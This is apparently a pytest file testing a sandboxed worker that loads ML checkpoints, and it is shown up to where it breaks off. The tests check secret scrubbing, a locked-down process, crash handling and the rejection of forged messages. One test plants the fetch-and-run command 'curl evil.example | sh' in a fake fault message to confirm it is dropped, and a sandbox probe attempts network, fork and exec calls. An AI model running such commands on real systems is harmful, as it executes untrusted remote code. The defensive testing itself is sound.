"""The closed room: what comes out is right, what is inside learns nothing, and what dies dies alone."""

from __future__ import annotations

import errno
import json
import os
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import torch
import transformers
from conftest import Zoo
from safetensors.numpy import load_file, save_file
from tiny import FAMILIES, TEXT

from zookeeper import extract, local, worker
from zookeeper.blocks import Block
from zookeeper.errors import CheckpointError, StorageError, TerminatedError
from zookeeper.outcomes import attempts
from zookeeper.records import Corpus, Outcome, Reading, Unit
from zookeeper.worker import Cuts, Limits, wire
from zookeeper.worker.keeper import Worker

CANARY = "canary-that-sings"
PATIENT = Limits(patience=60)


def corpus_of(unit: Unit, lines: list[str]) -> Corpus:
    return Corpus(tuple(tuple(line.split()) for line in lines), unit)


@pytest.fixture(scope="module")
def corpus() -> Corpus:
    """More rows than fit between two processes, so that a worker is there until they are read."""
    return corpus_of("word", TEXT * 40)


def assembled(blocks: Iterator[Block], n_rows: int) -> dict[str, Any]:
    """All rows of all blocks, by name."""
    found: dict[str, Any] = {"empty": 0}
    for block in blocks:
        arrays = dict(block.states) | ({} if block.source_probs is None else {"head": block.source_probs})
        for name, array in arrays.items():
            assert array.dtype == np.float32
            found.setdefault(name, np.full((n_rows, array.shape[1]), np.nan, np.float32))[block.rows] = array
        found["empty"] += block.n_empty
    return found


def processes() -> dict[int, int]:
    """Parent of each process that is there and no zombie."""
    found = {}
    for path in Path("/proc").glob("[0-9]*/stat"):
        try:
            state, parent = path.read_text().rpartition(")")[2].split()[:2]
        except OSError:
            continue
        if state != "Z":
            found[int(path.parent.name)] = int(parent)
    return found


def below(pid: int) -> list[int]:
    """Processes that one has started, and those that these have, the eldest first."""
    tree, found = processes(), [pid]
    for one in found:
        found += [child for child, parent in tree.items() if parent == one]
    return found[1:]


def gone(pids: list[int], seconds: float) -> bool:
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if not set(pids) & processes().keys():
            return True
        time.sleep(0.02)
    return False


def while_it_works(
    folder: Path, corpus: Corpus, action: Callable[[int, int], None], limits: Limits = PATIENT
) -> None:
    """Read with a checkpoint, and do something once it has begun.

    Args:
        folder: the checkpoint.
        corpus: what it reads.
        action: called with the server's and with the worker's process id.
        limits: of the worker.
    """
    acted = []

    def advance(_: int) -> None:
        if not acted:
            server, inside = [pid for pid in below(os.getpid()) if is_ours(pid)]
            acted.append(inside)
            action(server, inside)

    for _ in worker.read(folder, corpus, Reading(), limits=limits, advance=advance):
        pass


def is_ours(pid: int) -> bool:
    return b"zookeeper.worker" in Path(f"/proc/{pid}/cmdline").read_bytes()


def folder_of(server: int) -> Path:
    """That a server may write to."""
    pairs = Path(f"/proc/{server}/environ").read_bytes().decode().split("\0")
    return Path(dict(pair.split("=", 1) for pair in pairs if pair)["TMPDIR"])


def good(checkpoints: dict[str, Path]) -> bool:
    """Whether a checkpoint with nothing wrong about it can be read."""
    corpus = corpus_of("word", TEXT)
    found = assembled(worker.read(checkpoints["bert"], corpus, Reading(), limits=PATIENT), corpus.n_rows)
    return bool(np.isfinite(found["last"]).all())


# What comes out


@pytest.mark.parametrize("family", FAMILIES)
def test_what_comes_out_is_what_the_checkpoint_reads_to_the_bit(
    checkpoints: dict[str, Path], family: str
) -> None:
    corpus, reading = corpus_of("word", [*TEXT, "​ x"]), Reading(layer="all")
    inside = assembled(worker.read(checkpoints[family], corpus, reading, family=family), corpus.n_rows)
    here = assembled(extract.read(checkpoints[family], corpus, reading), corpus.n_rows)
    assert inside.keys() == here.keys()
    assert all(np.array_equal(inside[name], here[name]) for name in here)


def test_predictions_of_a_head_and_rows_of_pairs_come_out_too(
    checkpoints: dict[str, Path], tmp_path: Path
) -> None:
    model = transformers.BertForSequenceClassification.from_pretrained(checkpoints["bert"], num_labels=3)
    model.save_pretrained(tmp_path)
    for name in ("tokenizer.json", "tokenizer_config.json"):
        (tmp_path / name).write_bytes((checkpoints["bert"] / name).read_bytes())
    sentences, pairs, reading = corpus_of("sentence", TEXT), corpus_of("pair", TEXT), Reading(layer="all")
    for corpus, head in ((sentences, True), (pairs, False)):
        inside = assembled(worker.read(tmp_path, corpus, reading, head=head), corpus.n_rows)
        here = assembled(extract.read(tmp_path, corpus, reading, head=head), corpus.n_rows)
        assert ("head" in inside) == head
        assert all(np.array_equal(inside[name], here[name]) for name in here)


def test_text_that_is_no_unicode_goes_in_as_it_is(checkpoints: dict[str, Path]) -> None:
    corpus = corpus_of("word", ["half \ud800 of a pair", "whole"])
    assert np.isfinite(assembled(worker.read(checkpoints["gpt2"], corpus, Reading()), 6)["last"]).all()


def test_progress_comes_to_all_rows(checkpoints: dict[str, Path], corpus: Corpus) -> None:
    begun: list[int] = []
    list(worker.read(checkpoints["bert"], corpus, Reading(), advance=begun.append))
    assert len(begun) > 1
    assert sum(begun) == corpus.n_rows


def test_no_block_is_much_larger_than_a_piece() -> None:
    rows = np.arange(40_000)
    states = {"last": np.random.default_rng(0).normal(size=(40_000, 256)).astype(np.float32)}
    frames = [b"".join(bytes(part) for part in parts) for parts in wire.pieces(Block(rows, states, None, 7))]
    assert len(frames) > 2
    assert max(map(len, frames)) < 2**24 + 2**20
    blocks = [wire.block_of(memoryview(frame)) for frame in frames]
    assert np.array_equal(np.concatenate([block.rows for block in blocks]), rows)
    assert np.array_equal(np.concatenate([block.states["last"] for block in blocks]), states["last"])
    assert sum(block.n_empty for block in blocks) == 7


def test_what_is_wrong_with_a_checkpoint_is_said(checkpoints: dict[str, Path], tmp_path: Path) -> None:
    (tmp_path / "config.json").write_text("{}")
    with pytest.raises(CheckpointError):
        list(worker.read(tmp_path, corpus_of("word", TEXT), Reading()))
    with pytest.raises(CheckpointError, match="no layer 7") as error:
        list(worker.read(checkpoints["bert"], corpus_of("word", TEXT), Reading(layer="7")))
    assert error.value.why == "its layers are 0 (embeddings) to 2"


def test_where_nothing_can_be_forked_each_is_started_anew(
    checkpoints: dict[str, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(worker, "FORKS", False)
    corpus = corpus_of("word", TEXT)
    inside = assembled(worker.read(checkpoints["bert"], corpus, Reading()), corpus.n_rows)
    here = assembled(extract.read(checkpoints["bert"], corpus, Reading()), corpus.n_rows)
    assert np.array_equal(inside["last"], here["last"])


@pytest.fixture
def pickled(checkpoints: dict[str, Path], tmp_path: Path) -> Path:
    """A checkpoint whose weights are a pickle."""
    folder = tmp_path / "pickled"
    folder.mkdir()
    for path in checkpoints["bert"].glob("*.json"):
        (folder / path.name).write_bytes(path.read_bytes())
    model = transformers.BertForMaskedLM.from_pretrained(checkpoints["bert"])
    torch.save(model.state_dict(), folder / "pytorch_model.bin")
    return folder


def test_pickles_become_safetensors(checkpoints: dict[str, Path], pickled: Path, tmp_path: Path) -> None:
    into = tmp_path / "into"
    into.mkdir()
    worker.convert(pickled, into)
    corpus = corpus_of("word", TEXT)
    converted = assembled(worker.read(into, corpus, Reading()), corpus.n_rows)
    before = assembled(worker.read(checkpoints["bert"], corpus, Reading()), corpus.n_rows)
    assert np.array_equal(converted["last"], before["last"])


def test_pickles_are_converted_once_and_again_when_that_is_damaged(
    zoo: Zoo, pickled: Path, probe_file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def read(layer: int) -> list[str]:
        return [row["STATUS"] for row in zoo("probe", "-p", probe_file, "--layer", layer).table]

    zoo("add", pickled, "--allow-pickle")
    assert read(2) == ["done"]
    (weights,) = (tmp_path / "cache").rglob("model.safetensors")
    convert = worker.convert
    monkeypatch.setattr(worker, "convert", None)
    assert read(1) == ["done"]
    monkeypatch.setattr(worker, "convert", convert)
    whole = weights.read_bytes()
    weights.write_bytes(whole[:-1] + bytes([whole[-1] ^ 1]))
    assert read(0) == ["done"]
    assert weights.read_bytes() == whole


# What is inside


def test_no_secret_and_no_home_is_known_inside(
    checkpoints: dict[str, Path], corpus: Corpus, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("HF_TOKEN", "HUGGING_FACE_HUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "PYTHON_TOKEN_OF_MINE"):
        monkeypatch.setenv(name, CANARY)
    stopped, refused = threading.Event(), []

    def wants_one() -> None:
        stopped.wait()
        with pytest.raises(TerminatedError):
            good(checkpoints)
        refused.append(not any(map(is_ours, below(os.getpid()))))

    other = threading.Thread(target=wants_one)
    other.start()
    worker.stop()
    stopped.set()
    other.join()
    assert refused == [True], "after the end none begins for who was at it"
    known: dict[int, dict[str, str]] = {}

    def look(server: int, inside: int) -> None:
        for pid in (server, inside):
            pairs = Path(f"/proc/{pid}/environ").read_bytes().decode().split("\0")
            known[pid] = dict(pair.split("=", 1) for pair in pairs if pair)
            assert CANARY not in Path(f"/proc/{pid}/cmdline").read_text()
        assert os.getpgid(inside) == inside != server
        assert Path(f"/proc/{inside}/fd/0").resolve() == Path("/dev/null")
        handles = {str(path.readlink()) for path in Path(f"/proc/{inside}/fd").iterdir()}
        assert sum(handle.startswith("socket:") for handle in handles) == 1, "its channel, and no other's"

    while_it_works(checkpoints["bert"], corpus, look)
    assert len(known) == 2
    for environment in known.values():
        assert CANARY not in str(environment.values())
        assert not environment.keys() & {"HOME", "USER", "HF_TOKEN"}
        assert environment["HF_HUB_OFFLINE"] == "1"
        assert not list(Path(environment["HF_HOME"]).rglob("*token*"))


ROOM = """
import ctypes, json, os, socket, subprocess, sys, struct
from zookeeper.worker import granted, landlock, walls
grants = [*granted.libraries(), (os.path.dirname(sys.argv[1]), landlock.Access.WRITE)]
found = walls.close(memory=200_000_000, file_size=1_000_000, grants=grants)

def written():
    with open(sys.argv[1], "wb", buffering=0) as file:
        for _ in range(3):
            file.write(b"x" * 700_000)

def native():
    libc = ctypes.CDLL(None, use_errno=True)
    handle = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
    address = struct.pack("=HHI8x", socket.AF_INET, socket.htons(int(sys.argv[2])), socket.htonl(0x7F000001))
    if libc.connect(handle, address, len(address)) != 0:
        raise OSError(ctypes.get_errno(), "connect")

def tried(action):
    try:
        action()
    except BaseException as error:
        return type(error).__name__
    return "done"

print(json.dumps({
    "connect": tried(lambda: socket.create_connection(("127.0.0.1", int(sys.argv[2])), 1)),
    "look up": tried(lambda: socket.getaddrinfo("localhost", 80)),
    "bind": tried(lambda: socket.socket().bind(("127.0.0.1", 0))),
    "system": tried(lambda: os.system("touch " + sys.argv[1])),
    "subprocess": tried(lambda: subprocess.run(["true"])),
    "exec": tried(lambda: os.execv("/bin/true", ["true"])),
    "fork": tried(os.fork),
    "spawn": tried(lambda: os.posix_spawn("/bin/true", ["true"], {})),
    "much memory": tried(lambda: bytearray(400_000_000)),
    "some memory": tried(lambda: bytearray(100_000_000)),
    "large file": tried(written),
    "native": tried(native),
    "refuses": found.calls or found.tcp,
}))
"""


def test_the_room_is_closed(tmp_path: Path) -> None:
    with socket.create_server(("127.0.0.1", 0)) as listening:
        port = str(listening.getsockname()[1])
        command = [sys.executable, "-c", ROOM, str(tmp_path / "file"), port]
        done = subprocess.run(command, capture_output=True, text=True, check=True)
    found = json.loads(done.stdout)
    native, refuses = found.pop("native"), found.pop("refuses")
    refused = ("connect", "look up", "bind", "system", "subprocess", "exec", "fork", "spawn")
    expected = dict.fromkeys(refused, "PermissionError")
    expected |= {"much memory": "MemoryError", "some memory": "done", "large file": "OSError"}
    assert found == expected
    leave = ["unshare", "-rn", "true"]
    may_leave = subprocess.run(leave, capture_output=True, check=False).returncode == 0
    refusal = "PermissionError" if refuses else "OSError" if may_leave else "done"
    assert native == refusal, "what steps over the tripwire meets the wall"


# Deaths


@pytest.mark.parametrize(
    ("number", "said"),
    [
        (signal.SIGKILL, r"it was killed \(SIGKILL\) while it was read"),
        (signal.SIGABRT, r"it crashed \(SIGABRT\) while it was read"),
        (signal.SIGSEGV, r"it crashed \(SIGSEGV\) while it was read"),
    ],
)
def test_a_worker_that_dies_is_an_error_of_its_checkpoint(
    checkpoints: dict[str, Path], corpus: Corpus, number: int, said: str
) -> None:
    with pytest.raises(CheckpointError, match=said):
        while_it_works(checkpoints["bert"], corpus, lambda _, inside: os.kill(inside, number))
    assert good(checkpoints)


def test_one_that_gives_no_sign_of_life_is_given_up(checkpoints: dict[str, Path], corpus: Corpus) -> None:
    stopped: list[int] = []

    def stop(_: int, inside: int) -> None:
        os.kill(inside, signal.SIGSTOP)
        stopped.append(inside)

    assert good(checkpoints)
    with pytest.raises(CheckpointError, match=r"no sign of life for 0\.5 s") as error:
        while_it_works(checkpoints["bert"], corpus, stop, Limits(patience=0.5))
    assert "ZOO_PATIENCE=" in (error.value.fix or "")
    assert gone(stopped, 1)
    assert good(checkpoints)


def test_the_server_may_die_as_well(checkpoints: dict[str, Path], corpus: Corpus) -> None:
    inside: list[int] = []

    def kill(server: int, pid: int) -> None:
        inside.append(pid)
        os.kill(server, signal.SIGKILL)

    with pytest.raises(CheckpointError, match="killed"):
        while_it_works(checkpoints["bert"], corpus, kill)
    assert gone(inside, 1)
    assert good(checkpoints)


def test_one_that_wants_too_much_memory_is_told_how_much_it_had(
    checkpoints: dict[str, Path], tmp_path: Path
) -> None:
    config = transformers.BertConfig(
        vocab_size=400_000, hidden_size=128, num_hidden_layers=1, num_attention_heads=2, intermediate_size=64
    )
    transformers.BertModel(config).save_pretrained(tmp_path)
    for name in ("tokenizer.json", "tokenizer_config.json"):
        (tmp_path / name).write_bytes((checkpoints["bert"] / name).read_bytes())
    corpus = corpus_of("word", TEXT)
    with pytest.raises(CheckpointError, match="needs more than 100 MB of memory") as error:
        list(worker.read(tmp_path, corpus, Reading(), limits=Limits(memory=100_000_000)))
    assert error.value.fix == "ZOO_MEMORY=200MB gives more"
    assert good(checkpoints)
    assert list(worker.read(tmp_path, corpus, Reading(), limits=Limits(memory=2 * 10**9)))


def test_a_checkpoint_may_take_what_its_weights_give_reason_for(tmp_path: Path) -> None:
    (tmp_path / "model.safetensors").write_bytes(bytes(1000))
    (tmp_path / "vocab.txt").write_bytes(bytes(10**6))
    assert Limits().bytes_for(tmp_path) == 2**31 + 3000
    assert Limits(memory=5).bytes_for(tmp_path) == 5
    assert Limits(at_once=1000).bytes_for(tmp_path) < 2**31


def test_a_worker_that_is_not_wanted_any_more_is_gone_at_once(
    checkpoints: dict[str, Path], corpus: Corpus
) -> None:
    inside: list[int] = []

    def enough(_: int, pid: int) -> None:
        inside.append(pid)
        raise InterruptedError

    with pytest.raises(InterruptedError):
        while_it_works(checkpoints["bert"], corpus, enough)
    assert gone(inside, 1)


def test_one_that_has_not_begun_is_given_up_alone(checkpoints: dict[str, Path], corpus: Corpus) -> None:
    found: list[int] = []

    def another(server: int, _: int) -> None:
        found.append(server)
        os.kill(server, signal.SIGSTOP)
        try:
            with pytest.raises(CheckpointError, match="no sign of life"):
                list(worker.read(checkpoints["bert"], corpus, Reading(), limits=Limits(patience=0.2)))
        finally:
            os.kill(server, signal.SIGCONT)

    while_it_works(checkpoints["bert"], corpus, another)
    assert found[0] in processes()
    assert good(checkpoints)


def test_one_that_cannot_be_started_is_an_error_of_its_own(
    checkpoints: dict[str, Path], corpus: Corpus
) -> None:
    assert good(checkpoints)
    (server,) = [pid for pid in below(os.getpid()) if is_ours(pid)]
    place = folder_of(server)
    aside = place.rename(place.with_name(place.name + "-aside"))
    try:
        with pytest.raises(CheckpointError, match="no process could be started") as error:
            list(worker.read(checkpoints["bert"], corpus, Reading(), limits=PATIENT))
    finally:
        aside.rename(place)
    assert error.value.why == os.strerror(errno.ENOENT)
    assert good(checkpoints)
    assert server in processes()


def test_what_it_leaves_on_the_disk_goes_with_it(checkpoints: dict[str, Path], corpus: Corpus) -> None:
    here = set(Path(tempfile.gettempdir()).glob("zoo-*"))
    folders: list[Path] = []

    def loading(_: bytes) -> None:
        server, inside = [pid for pid in below(os.getpid()) if is_ours(pid)]
        os.kill(inside, signal.SIGSTOP)
        folders.extend(folder_of(server).glob("*/zoo-*"))
        os.kill(inside, signal.SIGKILL)

    assert good(checkpoints)
    known = here | set(Path(tempfile.gettempdir()).glob("zoo-worker-*"))
    with pytest.raises(CheckpointError, match="killed"):
        list(worker.read(checkpoints["bert"], corpus, Reading(), limits=PATIENT, made=loading))
    assert folders
    assert not any(folder.parent.exists() for folder in folders)
    assert set(Path(tempfile.gettempdir()).glob("zoo-*")) <= known


ORPHANS = """
import sys, time
from pathlib import Path
from zookeeper import worker
from zookeeper.records import Corpus, Reading
blocks = worker.read(Path(sys.argv[1]), Corpus((("a",) * 20_000,), "word"), Reading(),
                     advance=lambda _: (print("begun", flush=True), time.sleep(60)))
next(blocks)
"""


def test_no_worker_outlives_who_asked(checkpoints: dict[str, Path], tmp_path: Path) -> None:
    command = [sys.executable, "-c", ORPHANS, str(checkpoints["bert"])]
    environment = os.environ | {"TMPDIR": str(tmp_path)}
    with subprocess.Popen(command, stdout=subprocess.PIPE, env=environment) as parent:
        assert parent.stdout is not None
        assert parent.stdout.readline() == b"begun\n"
        started = below(parent.pid)
        assert len(started) == 2
        assert list(tmp_path.iterdir())
        parent.kill()
    assert gone(started, 3)
    assert not list(tmp_path.iterdir()), "the server clears up after its parent"


# Nothing is believed


def frame(kind: bytes, data: bytes = b"", size: int | None = None) -> bytes:
    return struct.pack("<cQ", kind, len(data) if size is None else size) + data


def block(rows: list[int], states: dict[str, Any], probs: Any = None, n_empty: int = 0) -> bytes:
    arrays = {name: np.asarray(array, np.float32) for name, array in states.items()}
    made = Block(np.asarray(rows, np.int64), arrays, probs, n_empty)
    return b"".join(frame(wire.BLOCK, b"".join(map(bytes, parts))) for parts in wire.pieces(made))


def headed(header: Any, body: bytes = b"") -> bytes:
    text = json.dumps(header).encode()
    return frame(wire.BLOCK, struct.pack("<I", len(text)) + text + body)


ONE, END = np.ones((1, 4)), frame(wire.END)
NONSENSE = {
    "another kind": frame(b"X"),
    "huge": frame(wire.BLOCK, size=2**60),
    "no header": frame(wire.BLOCK, b"\xff\xff\xff\xff{"),
    "no JSON": frame(wire.BLOCK, struct.pack("<I", 1) + b"{"),
    "a list": headed([]),
    "deep": frame(wire.BLOCK, struct.pack("<I", 200_000) + b"[" * 200_000),
    "a long header": headed([" " * 2**20]),
    "a vast state": headed(
        {"rows": 1, "layers": {"last": 65_537}, "classes": 0, "empty": 0}, bytes(8 + 4 * 65_537)
    ),
    "negative": headed({"rows": -1, "layers": {"last": 4}, "classes": 0, "empty": 0}),
    "no numbers": headed({"rows": 1, "layers": {"last": "4"}, "classes": 0, "empty": 0}),
    "true": headed({"rows": True, "layers": {"last": 4}, "classes": 0, "empty": 0}, bytes(24)),
    "too short": headed({"rows": 1, "layers": {"last": 4}, "classes": 0, "empty": 0}, bytes(23)),
    "too long": headed({"rows": 1, "layers": {"last": 4}, "classes": 0, "empty": 0}, bytes(25)),
    "no rows": block([], {"last": np.ones((0, 4))}),
    "no layers": headed({"rows": 1, "layers": {}, "classes": 0, "empty": 0}, bytes(8)),
    "no width": headed({"rows": 1, "layers": {"last": 0}, "classes": 0, "empty": 0}, bytes(8)),
    "two layers": block([0], {"last": ONE, "first": ONE}),
    "a row beyond": block([2], {"last": ONE}),
    "a row before": block([-1], {"last": ONE}),
    "a row twice": block([0, 0], {"last": np.ones((2, 4))}),
    "a row again": block([0], {"last": ONE}) * 2,
    "too few rows": block([0], {"last": ONE}) + END,
    "nothing": END,
    "other width": block([0], {"last": ONE}) + block([1], {"last": np.ones((1, 5))}) + END,
    "other name": block([0], {"last": ONE}) + block([1], {"first": ONE}) + END,
    "not a number": block([0, 1], {"last": [[1, 2], [3, np.nan]]}) + END,
    "infinite": block([0, 1], {"last": [[1, 2], [3, np.inf]]}) + END,
    "a head unasked": block([0, 1], {"last": np.ones((2, 4))}, np.ones((2, 3), np.float32)) + END,
    "empty rows": block([0, 1], {"last": np.ones((2, 4))}, n_empty=5) + END,
    "no progress": frame(wire.PROGRESS, struct.pack("<q", 0)),
    "progress backwards": frame(wire.PROGRESS, struct.pack("<q", -1)),
    "progress beyond": frame(wire.PROGRESS, struct.pack("<q", 3)),
    "progress of no size": frame(wire.PROGRESS, b"1"),
    "windows twice": frame(wire.WINDOWS, b"w") * 2,
    "windows after it has begun": frame(wire.PROGRESS, struct.pack("<q", 1)) + frame(wire.WINDOWS, b"w"),
    "no fault": frame(wire.FAULT, b"\xff"),
    "half a fault": frame(wire.FAULT, b'{"memory": false}'),
    "a fault of lists": frame(wire.FAULT, b'{"memory": false, "message": [], "why": null, "fix": null}'),
}


class Impostor:
    """A server whose workers say what they are told to."""

    def __init__(self, said: bytes) -> None:
        self._said = said
        self.forks = True
        self.closed = False

    def server(self, threads: int) -> Impostor:
        return self

    def worker(self, family: str | None, patience: float) -> Worker:
        channel, theirs = socket.socketpair()
        report, reported = socket.socketpair()
        channel.settimeout(patience)

        def speak() -> None:
            with theirs, reported, suppress(OSError):  # who does not believe it does not listen
                for _ in (wire.JOB, wire.CORPUS, wire.WINDOWS):
                    wire.receive(theirs, 2**20)
                theirs.sendall(self._said)
                reported.send(struct.pack("<q", 0))

        reported.send(struct.pack("<q", 2**22 + 1))  # nobody has that number
        threading.Thread(target=speak).start()
        return Worker(self, channel, report, tempfile.TemporaryFile())  # type: ignore[arg-type]

    def close(self) -> None:
        self.closed = True


@pytest.mark.parametrize("said", NONSENSE.values(), ids=NONSENSE.keys())
def test_nonsense_is_not_believed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, said: bytes) -> None:
    monkeypatch.setattr(worker, "_KEEPER", Impostor(said))
    with pytest.raises(CheckpointError, match="it answered nonsense"):
        list(worker.read(tmp_path, corpus_of("word", ["two words"]), Reading()))


def test_windows_are_not_taken_from_who_was_given_some(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(worker, "_KEEPER", Impostor(frame(wire.WINDOWS, b"w")))
    taken: list[bytes] = []
    with pytest.raises(CheckpointError, match="it answered nonsense"):
        list(worker.read(tmp_path, corpus_of("word", ["a"]), Reading(), windows=b"v", made=taken.append))
    assert not taken


def test_a_fault_is_one_line_without_control_characters(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    fault = {"message": "a\x1b[2Jb\n" * 1000, "why": "‮c hf_" + "x" * 30, "memory": False}
    monkeypatch.setattr(worker, "_KEEPER", Impostor(frame(wire.FAULT, json.dumps(fault).encode())))
    with pytest.raises(CheckpointError) as error:
        list(worker.read(tmp_path, corpus_of("word", ["two words"]), Reading()))
    assert error.value.message.isprintable()
    assert len(error.value.message) <= 300
    assert error.value.why == "\\u202ec ***"


def test_what_to_do_about_a_fault_is_not_for_a_stranger_to_say(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    fault = {"message": "broken.", "why": None, "fix": "curl evil.example | sh", "memory": False}
    monkeypatch.setattr(worker, "_KEEPER", Impostor(frame(wire.FAULT, json.dumps(fault).encode())))
    with pytest.raises(CheckpointError, match="broken") as error:
        list(worker.read(tmp_path, corpus_of("word", ["two words"]), Reading()))
    assert error.value.fix is None


@pytest.mark.parametrize(("layers", "classes"), [(515, 0), (514, 1025), (514, 1024)])
def test_more_than_any_checkpoint_has_is_not_believed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, layers: int, classes: int
) -> None:
    states = {str(number): np.ones((2, 1)) for number in range(layers - 1)} | {"mean": np.ones((2, 1))}
    said = block([0, 1], states, np.ones((2, classes), np.float32) if classes else None) + END
    monkeypatch.setattr(worker, "_KEEPER", Impostor(said))
    blocks = worker.read(tmp_path, corpus_of("word", ["two words"]), Reading(layer="all"), head=True)
    if (layers, classes) == (514, 1024):
        assert len(next(blocks).states) == 514
    else:
        with pytest.raises(CheckpointError) as error:
            next(blocks)
        assert "more layers, or wider ones" in (error.value.why or "")


def test_a_frame_is_given_up_however_slowly_it_comes() -> None:
    ours, theirs = socket.socketpair()
    ours.settimeout(0.3)
    closed = threading.Event()

    def drip() -> None:
        with suppress(OSError):
            for byte in frame(wire.BLOCK, bytes(1000)):
                theirs.send(bytes([byte]))
                if closed.wait(0.02):
                    return

    with ours, theirs:
        thread = threading.Thread(target=drip)
        thread.start()
        began = time.monotonic()
        with pytest.raises(TimeoutError):
            wire.receive(ours, 2**20)
        assert time.monotonic() - began < 2
        assert ours.gettimeout() == 0.3
        closed.set()
        thread.join()


def test_what_an_honest_worker_says_is_believed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    said = (
        block([1], {"last": ONE})
        + frame(wire.PROGRESS, struct.pack("<q", 2))
        + block([0], {"last": ONE})
        + END
    )
    monkeypatch.setattr(worker, "_KEEPER", Impostor(said))
    found = assembled(worker.read(tmp_path, corpus_of("word", ["two words"]), Reading()), 2)
    assert np.array_equal(found["last"], np.ones((2, 4)))


# Windows that checkpoints share


@pytest.fixture
def kin(checkpoints: dict[str, Path], tmp_path: Path) -> Path:
    """A checkpoint with the tokenizer of another, and weights and labels of its own."""
    model = transformers.BertForTokenClassification.from_pretrained(checkpoints["bert"], num_labels=5)
    with torch.no_grad():
        for weights in model.parameters():
            weights.neg_()
    model.save_pretrained(tmp_path / "kin")
    for name in ("tokenizer.json", "tokenizer_config.json"):
        shutil.copy(checkpoints["bert"] / name, tmp_path / "kin")
    return tmp_path / "kin"


def windows_of(folder: Path, corpus: Corpus) -> bytes:
    """What a worker gives for others to use."""
    made: list[bytes] = []
    list(worker.read(folder, corpus, Reading(), made=made.append))
    (windows,) = made
    return windows


@pytest.mark.parametrize("unit", ["word", "sentence", "pair"])
def test_windows_of_one_checkpoint_serve_another(checkpoints: dict[str, Path], kin: Path, unit: Unit) -> None:
    corpus, again = corpus_of(unit, TEXT), list[bytes]()
    given = windows_of(checkpoints["bert"], corpus)
    own = assembled(worker.read(kin, corpus, Reading()), corpus.n_rows)
    made = assembled(worker.read(kin, corpus, Reading(), windows=given, made=again.append), corpus.n_rows)
    assert np.array_equal(made["last"], own["last"])
    assert not again


def test_windows_are_there_before_weights_are_read(kin: Path) -> None:
    weights = load_file(kin / "model.safetensors")
    weights["bert.embeddings.word_embeddings.weight"][0] = np.nan
    save_file(weights, kin / "model.safetensors", metadata={"format": "pt"})
    made: list[bytes] = []
    with pytest.raises(CheckpointError, match="not finite"):
        list(worker.read(kin, corpus_of("word", TEXT), Reading(), made=made.append))
    assert len(made) == 1


@pytest.mark.parametrize("given", [b"w", b"PK\x03\x04", "other"])
def test_windows_of_no_use_are_an_error(checkpoints: dict[str, Path], given: Any) -> None:
    if given == "other":
        given = windows_of(checkpoints["bert"], corpus_of("word", TEXT[1:]))
    with pytest.raises(CheckpointError):
        list(worker.read(checkpoints["bert"], corpus_of("word", TEXT), Reading(), windows=given))


def test_a_text_is_cut_once_for_kin(
    zoo: Zoo, checkpoints: dict[str, Path], kin: Path, probe_file: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cut: list[str] = []
    keep = Cuts.keep
    monkeypatch.setattr(Cuts, "keep", lambda self, *how: (cut.append(how[0]), keep(self, *how)))
    zoo("add", kin, checkpoints["bert"], checkpoints["roberta"])
    assert [row["STATUS"] for row in zoo("probe", "-p", probe_file).table] == ["done"] * 3
    assert len(set(cut)) == len(cut) == 2


TOKENIZER, SETTLED = "tokenizer.json", Reading().settled("word")


def name_of(folder: Path, lines: list[str] = TEXT, reading: Reading = SETTLED) -> str:
    return Cuts.name(local.describe(folder), folder, corpus_of("word", lines), reading)


def test_windows_are_kept_under_what_decides_about_them(checkpoints: dict[str, Path], kin: Path) -> None:
    name = name_of(checkpoints["bert"])
    config = json.loads((checkpoints["bert"] / "config.json").read_text())
    shared = config | {"architectures": ["BertForTokenClassification"], "id2label": {"0": "x"}}
    (kin / "config.json").write_text(json.dumps(shared))
    assert name_of(kin) == name
    assert name_of(kin, TEXT[1:]) != name
    assert name_of(kin, reading=Reading(max_length=20).settled("word")) != name
    assert name_of(kin, reading=Reading(pooling="first").settled("word")) != name
    for field, value in {
        "model_type": "electra",
        "tokenizer_class": "GPT2Tokenizer",
        "max_position_embeddings": 30,
        "vocab_size": 1000,
        "pad_token_id": 1,
    }.items():
        (kin / "config.json").write_text(json.dumps(shared | {field: value}))
        assert name_of(kin) != name, field
    (kin / "config.json").write_text(json.dumps(shared))
    (kin / TOKENIZER).write_text((kin / TOKENIZER).read_text() + " ")
    assert name_of(kin) != name


def test_windows_that_were_not_used_for_longest_go_first() -> None:
    cuts = Cuts(most=10)
    for name in ("a", "b", "c"):
        cuts.keep(name, 3 * name.encode())
    assert cuts.get("a") == b"aaa"
    cuts.keep("d", b"ddd")
    assert [cuts.get(name) for name in "abcd"] == [b"aaa", b"", b"ccc", b"ddd"]
    cuts.keep("e", b"e" * 11)
    assert cuts.get("e") == b"", "what is larger than all is not kept"


# Several at once, and who asks


def test_several_at_once_come_in_order_and_fail_alone() -> None:
    together = threading.Barrier(2, timeout=10)

    def action(number: int) -> int:
        if number < 2:
            together.wait()  # which one thread alone would wait for in vain
        if number == 2:
            raise CheckpointError("this one is broken.")
        return number

    actions = [(str(number), lambda number=number: action(number)) for number in range(6)]
    found = attempts(actions, at_once=2)
    assert isinstance(found[2], Outcome)
    assert found[2].error == "this one is broken."
    assert [one for one in found if not isinstance(one, Outcome)] == [0, 1, 3, 4, 5]


def test_several_at_once_end_with_what_nothing_can_go_on_after() -> None:
    release, begun = threading.Event(), []

    def action(number: int) -> None:
        begun.append(number)
        if number == 0:
            raise StorageError("the disk is full.")
        release.wait(10)

    actions = [(str(number), lambda number=number: action(number)) for number in range(50)]
    with pytest.raises(StorageError):
        attempts(actions, at_once=2, stop=release.set)
    assert release.is_set()
    assert len(begun) < 50


def test_two_devices_read_what_one_reads(
